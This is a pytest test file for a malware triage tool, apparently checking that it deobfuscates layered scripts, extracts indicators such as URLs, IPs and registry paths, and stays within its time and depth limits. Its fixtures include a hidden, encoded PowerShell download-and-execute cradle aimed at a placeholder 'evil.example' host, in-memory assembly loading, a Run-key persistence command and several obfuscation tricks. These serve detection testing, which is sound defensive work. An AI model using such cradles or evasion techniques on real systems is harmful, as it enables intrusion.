"""Scripts in layers: each way of hiding text is undone, every layer kept, indicators found; bounds hold."""

from __future__ import annotations

import base64
import gzip
import time
import zlib

import pytest

from tocsin.lab.triage import Triage, triage_bytes
from tocsin.lab.triage.indicators import find_indicators
from tocsin.lab.triage.joins import join
from tocsin.lab.triage.model import MAX_LAYERS, Notes, tables
from tocsin.lab.triage.scripts import script
from tocsin.lab.triage.texts import as_text, find_strings

URL = "http://stage2.evil.example/a.ps1"


def found(result: Triage, kind: str = "url") -> set[str]:
    return {indicator.value for indicator in result.indicators if indicator.type == kind}


def noted(result: Triage) -> set[str]:
    return {anomaly.id for anomaly in result.anomalies}


@pytest.mark.parametrize(
    ("hidden", "shown"),
    [
        ("$a = 'Invo' + 'ke-Ex' + 'pression'", "Invoke-Expression"),
        ('x = "po" & "wer" & "shell"', "powershell"),
        ('x = "po" & _\r\n "wershell"', "powershell"),
        ("[char]73 + [char]69 + [char]0x58", "IEX"),
        ("-join([char[]](104,101,108,108,111))", "hello"),
        ("Chr(72) & Chr(&H69) & Chr(100 + 10)", "Hin"),
        ("String.fromCharCode(0x68, 105, 33)", "hi!"),
        ("('{1}{0}' -f 'lo','hel')", "hello"),
        ("'hxllo'.replace('x','e')", "hello"),
        ("('h--e--l').replace('--','')", "hel"),
        ("'hXllo' -replace 'X','e'", "hello"),
        ('Replace("hqqello", "qq", "")', "hello"),
        ('StrReverse("lleh" & "srewop")', "powershell"),
        ("'olleh'.split('').reverse().join('')", "hello"),
        ("'olleh'[-1..-5] -join ''", "hello"),
        ("unescape('%68%65%6c%6co')", "hello"),
        ("unescape('%u0068%u0069')", "hi"),
        (r"var a = '\x68\u0065llo'", "hello"),
        ("atob('aGVsbG8gd29ybGQ=')", "hello world"),
        ("[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGVsbG8='))", "hello"),
        ("In`vo`ke-Web`Request", "Invoke-WebRequest"),
        ("p^o^w^e^r^s^h^e^l^l /c", "powershell /c"),
        ("set a=powershell\r\nset b=-nop\r\n%a% %b%", "\r\npowershell -nop"),
        ("set q=zyxcmdw\r\n%q:~3,3% /c\r\n%q:~-4,3%.exe", "cmd /c\r\ncmd.exe"),
        ("$a = 'http://'\n$b = 'evil.example'\nGet ($a + $b)", "http://evil.example"),
    ],
)
def test_hidden_text_is_shown(hidden: str, shown: str) -> None:
    assert shown not in hidden
    assert shown in join(hidden)


@pytest.mark.parametrize("text", ["plain words", "a = b + c", "call('one', 'two')", "if a and b: pass", "x = 3 - 1"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert join(text) == text


def test_a_variable_that_is_set_twice_is_left_alone() -> None:
    assert "evil" not in join("$a = 'evil'\n$a = 'good'\nGet ($a + 'x')").split("\n")[2]


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def test_layers_in_layers_each_kept() -> None:
    inner = f"IEX (New-Object Net.WebClient).DownloadString('{URL[:12]}' + '{URL[12:]}')"
    packed = base64.b64encode(gzip.compress(inner.encode())).decode()
    middle = f"$s = New-Object IO.MemoryStream(,[Convert]::FromBase64String('{packed}')); "
    middle += "IEX (New-Object IO.StreamReader($s)).ReadToEnd()"
    result = triage_bytes(f"powershell.exe -NoP -W Hidden -Enc {encoded(middle)}\r\n$x = 1; Write-Host 1".encode())
    assert [layer.how for layer in result.layers] == [
        "encoded command",
        "base64, compressed",
        "literals joined and decoded",
    ]
    assert middle in result.layers[0].text
    assert inner == result.layers[1].text
    assert URL in found(result)
    assert {"script.encoded_command", "script.hidden_window", "script.download", "script.run_text"} <= noted(result)
    assert {"T1059.001", "T1105", "T1027.010"} <= set(result.techniques)


@pytest.mark.parametrize(
    "wrapped",
    [
        base64.b64encode(zlib.compress((URL + "\n").encode() * 3)[2:-4]).decode(),
        (URL + "\n" + URL).encode().hex(),
        ",".join(str(b) for b in URL.encode()),
        ", ".join(hex(b) for b in URL.encode()),
        base64.urlsafe_b64encode((URL + " ?>?>?>").encode()).decode(),
    ],
    ids=["deflate", "hex", "numbers", "hex numbers", "url-safe base64"],
)
def test_encodings(wrapped: str) -> None:
    result = triage_bytes(f"var a = 1; var data = '{wrapped}'; function run() {{ eval(decode(data)); }}".encode())
    assert URL in found(result)


def test_bytes_under_a_key() -> None:
    numbers = ",".join(str(b ^ 0x2A) for b in URL.encode())
    result = triage_bytes(f"$b = @({numbers}); $t = $b | % {{ [char]($_ -bxor 0x2A) }}; Write-Host $t".encode())
    assert URL in found(result)


def test_a_program_in_a_script_becomes_a_sample() -> None:
    import triage_samples as made

    text = (
        f"$b = [Convert]::FromBase64String('{base64.b64encode(made.pe()).decode()}'); [Reflection.Assembly]::Load($b)"
    )
    result = triage_bytes(text.encode())
    assert [child.kind for child in result.children] == ["pe"]
    assert {"script.carries_file", "script.memory_code"} <= noted(result)


def test_too_many_layers_are_a_problem() -> None:
    lines = "\n".join(f"$v{n} = '{encoded('text of layer number ' + str(n))}'" for n in range(MAX_LAYERS * 2))
    result = triage_bytes(lines.encode())
    assert len(result.layers) <= MAX_LAYERS


def test_layers_too_deep_are_a_problem() -> None:
    text = "Write-Host the innermost text of all"
    for _ in range(11):
        text = f"$x = 1; powershell -e {base64.b64encode(text.encode('utf-16-le')).decode()}"
    result = triage_bytes(text.encode())
    assert any("in each other" in problem.reason for problem in result.problems)


def test_scripts_are_opened_up_to_a_limit() -> None:
    line = "<script>var a = 'one line of a very long script'; document.write(a);</script>"
    result = triage_bytes(b"<html>" + (line * 200 + "\n").encode() * 3)
    assert not any("not opened" in problem.reason for problem in result.problems)
    blocks = "".join(f"<script>var n = {n};{' ' * 900_000}</script>" for n in range(12))
    result = triage_bytes(b"<html>" + blocks.encode()[: 8 << 20])
    assert not any("not opened" in problem.reason for problem in result.problems)
    notes = Notes()
    for _ in range(9):
        script("x" * (1 << 20), notes)
    assert any("not opened" in problem.reason for problem in notes.problems)


@pytest.mark.parametrize(
    "text",
    ["'" * 66_666,
     "\"a\" & _" + "\n" * 66_666, "a" * 333_000, "'a'+" * 33_333, "%a%" * 33_333, "set a=%a%\n" * 5000, "(" * 100_000,
     "[char]" * 20_000, "\\x41" * 33_333, "<script" * 16_666, "1," * 66_666, "A" * 23 + " " + "A+/" * 66_666, "$a=" * 33_333,
     "{0}" * 16_666 + "' -f 'a'", "\\" * 100_000, " " * 333_000, "http://" * 16_666, "a." * 66_666,
     "a@" * 66_666, "C:\\a " * 26_666,
     f"'{'a' * 3000}'.replace('a','{'b' * 3000}')"],
)  # fmt: skip
def test_no_text_takes_long(text: str) -> None:
    begun = time.process_time()
    triage_bytes(b"$x = 1; Write-Host 1; " + text.encode(), "x.ps1")
    triage_bytes(b"<html><script>" + text.encode(), "x.html")
    assert time.process_time() - begun < 10


class TestIndicators:
    @pytest.mark.parametrize(
        ("text", "kind", "value"),
        [
            ("see https://a.evil.example/x?y=1).", "url", "https://a.evil.example/x?y=1"),
            ("hxxps://a[.]evil.example/x", "url", "https://a.evil.example/x"),
            ("to 203.0.113.9:443", "ip", "203.0.113.9"),
            ("host c2.evil-site.com here", "domain", "c2.evil-site.com"),
            ("write to Someone@Evil-Site.com now", "email", "someone@evil-site.com"),
            ("copy C:\\Users\\Public\\run.exe there", "path", "C:\\Users\\Public\\run.exe"),
            ("%APPDATA%\\Microsoft\\x.dll", "path", "%APPDATA%\\Microsoft\\x.dll"),
            ("\\\\files.evil.example@80\\share\\x.lnk", "path", "\\\\files.evil.example@80\\share\\x.lnk"),
            ("sh /tmp/.x/run &", "path", "/tmp/.x/run"),
            (
                "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x",
                "registry",
                "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            ),
        ],
    )
    def test_found(self, text: str, kind: str, value: str) -> None:
        assert (kind, value) in {(i.type, i.value) for i in find_indicators([("here", text)])}

    @pytest.mark.parametrize(
        "text",
        [
            "version 1.2.3.0",
            "version 10.0.19041.1",
            "http://www.w3.org/2000/svg",
            "System.Net",
            "kernel32.dll",
            "999.1.1.1",
            "run.sh",
            "a.b.c",
        ],
    )
    def test_not_taken_for_one(self, text: str) -> None:
        assert find_indicators([("here", text)]) == []

    def test_counted_with_the_first_place(self) -> None:
        (first, *_) = find_indicators([("string at 5", "203.0.113.9"), ("layer 1", "203.0.113.9 203.0.113.9")])
        assert (first.where, first.count) == ("string at 5", 3)


class TestStrings:
    def test_both_widths_telling_ones_first(self) -> None:
        data = (
            bytes(50)
            + b"aaaaaaaaaaaa"
            + bytes(3)
            + "powershell -enc".encode("utf-16-le")
            + bytes(9)
            + b"http://x.example/"
            + bytes(9)
            + b"Common words"
        )
        strings, count = find_strings(data)
        assert count == 4
        assert [(s.value, s.encoding) for s in strings[:2]] == [
            ("http://x.example/", "ascii"),
            ("powershell -enc", "utf-16"),
        ]
        assert data[strings[0].offset :].startswith(b"http://x.example/")

    @pytest.mark.parametrize(
        ("data", "text"),
        [("häuser".encode(), "häuser"), ("häuser\n".encode("latin-1"), "häuser\n"), ("word".encode("utf-16"), "word"),
         ("longer words".encode("utf-16-be"), "longer words"), (b"\x00\x01\x02\x03abc", None), (b"", None)],
    )  # fmt: skip
    def test_text_in_any_encoding(self, data: bytes, text: str | None) -> None:
        assert as_text(data) == text


def test_the_tables_are_whole_and_their_techniques_exist() -> None:
    import re
    from pathlib import Path

    from tocsin.lab import triage
    from tocsin.lab.attack import technique_name
    from tocsin.lab.triage.model import SEVERITIES

    folder = Path(triage.__file__).parent
    known = tables()["anomalies"]
    code = "\n".join(path.read_text(encoding="utf-8") for path in folder.glob("*.py"))
    named = set(re.findall(r'"([a-z]+\.[a-z0-9_]+)"', code)) | {
        f"mail.other_{key}" for key in ("reply_to", "return_path")
    }
    named |= {row["anomaly"] for row in tables()["signs"]["signs"]} | {
        row["anomaly"] for row in tables()["binaries"]["imports"]
    }
    assert set(known) - named == set()
    families = {key.split(".")[0] for key in known}
    assert {name for name in named if name.split(".")[0] in families} - set(known) == set()
    for key, row in known.items():
        assert row["severity"] in SEVERITIES, key
        assert row["what"], key
        assert row["why"].endswith("."), key
        assert [t for t in row.get("techniques", []) if technique_name(t) == t] == [], key
